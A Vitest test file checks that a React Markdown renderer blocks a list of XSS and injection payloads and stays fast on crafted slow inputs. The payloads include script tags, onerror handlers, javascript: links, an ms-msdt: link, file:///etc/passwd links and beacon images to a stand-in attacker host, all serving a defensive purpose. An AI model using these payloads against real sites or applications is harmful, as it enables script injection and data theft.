import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { Markdown } from '../../renderer/markdown/markdown.tsx'
import { TooltipProvider } from '../../renderer/ui/tooltip.tsx'

const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'text <img src=x onerror=alert(1)> text',
  '<svg onload=alert(1)><use href="https://evil.test/x#y"/></svg>',
  '<iframe src="https://evil.test"></iframe>',
  '<style>@import "https://evil.test/x.css"</style>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<form action=https://evil.test><input name=a></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="https://evil.test/">',
  '<video src=https://evil.test/v poster=https://evil.test/p>',
  '<div style="background:url(https://evil.test/x)">a</div>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#x73;cript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#x1;javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '[x](smb://evil.test/share)',
  '[x](ms-msdt:/id)',
  '[x](//evil.test/path)',
  '[x](\\\\evil.test\\share)',
  '[x](https://user:secret@evil.test/)',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](https://evil.test/pixel.png?q=secret)',
  '![x][pic]\n\n[pic]: https://evil.test/pixel.png',
  '[![x](https://evil.test/a.png)](https://evil.test/b)',
  '![x"onerror="alert(1)](https://evil.test/a.png)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](//evil.test/a.png)',
  '[x](https://good.test "a\\" onmouseover=\\"alert(1)")',
  '```"><script>alert(1)</script>\ncode\n```',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <script>a</script> | b |\n|---|---|\n| <img src=x onerror=a> | c |',
  '> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>',
  'note[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  '$\\href{javascript:alert(1)}{x}$ and $\\includegraphics{https://evil.test/a.png}$',
  '$$\n\\htmlStyle{background:url(https://evil.test)}{x}\n$$',
]

function draw(text: string, isStreaming: boolean): string {
  return renderToStaticMarkup(
    <TooltipProvider>
      <Markdown text={text} isStreaming={isStreaming} />
    </TooltipProvider>,
  )
}

interface Tag {
  readonly name: string
  readonly attributes: ReadonlyMap<string, string>
}

/** The tags React wrote. Its output is regular: every attribute is quoted, every `<` and `"` in text is escaped. */
function tagsOf(html: string): Tag[] {
  return Array.from(html.matchAll(/<([a-zA-Z][\w-]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g), (match) => ({
    name: (match[1] ?? '').toLowerCase(),
    attributes: new Map(
      Array.from((match[2] ?? '').matchAll(/([^\s=]+)(?:="([^"]*)")?/g), (pair) => [
        (pair[1] ?? '').toLowerCase(),
        pair[2] ?? '',
      ]),
    ),
  }))
}

const loadingTags = new Set(
  'script style link iframe frame object embed base meta form img image video audio source track use picture'.split(
    ' ',
  ),
)
const loadingAttributes = [
  'src',
  'srcset',
  'poster',
  'data',
  'action',
  'formaction',
  'background',
  'xlink:href',
  'ping',
]

describe.each(payloads)('%s', (payload) => {
  test.each([true, false])('draws nothing that runs or loads (streaming: %s)', (isStreaming) => {
    for (let end = isStreaming ? 1 : payload.length; end <= payload.length; end += 1) {
      for (const tag of tagsOf(draw(payload.slice(0, end), isStreaming))) {
        expect(loadingTags).not.toContain(tag.name)
        for (const [name, value] of tag.attributes) {
          expect(name).not.toMatch(/^on/)
          expect(loadingAttributes).not.toContain(name)
          if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:)/)
          if (name === 'style') expect(value).not.toMatch(/url\(/i)
        }
      }
    }
  })
})

describe('Markdown', () => {
  test('the tag reader of this test sees handlers and addresses', () => {
    const [tag] = tagsOf('<img src="x" onerror="alert(1)"/>')
    expect(tag?.name).toBe('img')
    expect([...(tag?.attributes.keys() ?? [])]).toEqual(['src', 'onerror'])
  })

  test('shows raw HTML as text', () => {
    expect(draw('a <b>bold</b>\n\n<div>block</div>', false)).toContain('&lt;b&gt;bold&lt;/b&gt;')
    expect(draw('<div>block</div>', false)).toContain('&lt;div&gt;block&lt;/div&gt;')
  })

  test('names the host of a remote image and offers to open it', () => {
    const html = draw('![A chart](https://images.example.org/chart.png)', false)
    expect(html).toContain('images.example.org')
    expect(html).toContain('Open in browser')
    expect(html).toContain('https://images.example.org/chart.png')
  })

  test('opens only web and mail addresses and shows the others', () => {
    expect(draw('[x](https://example.com/a)', false)).toContain('href="https://example.com/a"')
    expect(draw('[x](mailto:a@example.com)', false)).toContain('href="mailto:a@example.com"')
    const other = draw('[the file](./src/main.ts)', false)
    expect(other).not.toContain('<a')
    expect(other).toContain('(./src/main.ts)')
  })

  test('says where a link leads when its text names another host', () => {
    expect(draw('[https://bank.example](https://evil.test/x)', false)).toContain('(evil.test)')
    expect(draw('[https://bank.example/a](https://bank.example/a)', false)).not.toContain('(bank.example)')
  })

  test('resolves references and footnotes that stand in another block', () => {
    expect(draw('See [the page][p].\n\nMore.\n\n[p]: https://example.com/p', false)).toContain(
      'href="https://example.com/p"',
    )
    expect(draw('A claim[^n].\n\nMore.\n\n[^n]: The source.', false)).toContain('The source.')
    expect(draw('A claim[^n].\n\nMore.\n\n[^n]: The source.', true)).toContain('The source.')
  })

  test('makes invisible direction controls in code visible', () => {
    expect(draw('```js\nconst a = "\u202e"\n```', false)).toContain('U+202E')
    expect(draw('Inline `a\u2066b`', false)).toContain('U+2066')
  })

  test('draws the same finished text whether it arrived in pieces or at once', () => {
    const text =
      '# Title\n\n- [x] done\n- [ ] open\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```ts\nlet a\n```\n\nEnd.'
    const finished = draw(text, false)
    expect(finished).toContain('aria-label="Done"')
    expect(draw(text, true)).toBe(finished)
  })

  test('survives text made to be slow', () => {
    const heavy = [
      '> '.repeat(10_000),
      '- '.repeat(10_000),
      '['.repeat(20_000),
      '*a **b '.repeat(10_000),
      '`'.repeat(20_000),
      '<'.repeat(20_000),
      'a'.repeat(300_000),
      `|${'a|'.repeat(5000)}\n|${'-|'.repeat(5000)}\n`,
      '$'.repeat(20_000),
      '\\('.repeat(10_000),
      '![](a'.repeat(5000),
      '_'.repeat(20_000),
      `${'a\n'.repeat(20_000)}`,
    ]
    for (const text of heavy) {
      // Time of this thread on a processor: what else the machine does is no fault of the text.
      const before = process.threadCpuUsage()
      expect(draw(text, false).length).toBeGreaterThan(0)
      expect(process.threadCpuUsage(before).user / 1000, text.slice(0, 10)).toBeLessThan(2000)
    }
  })
})
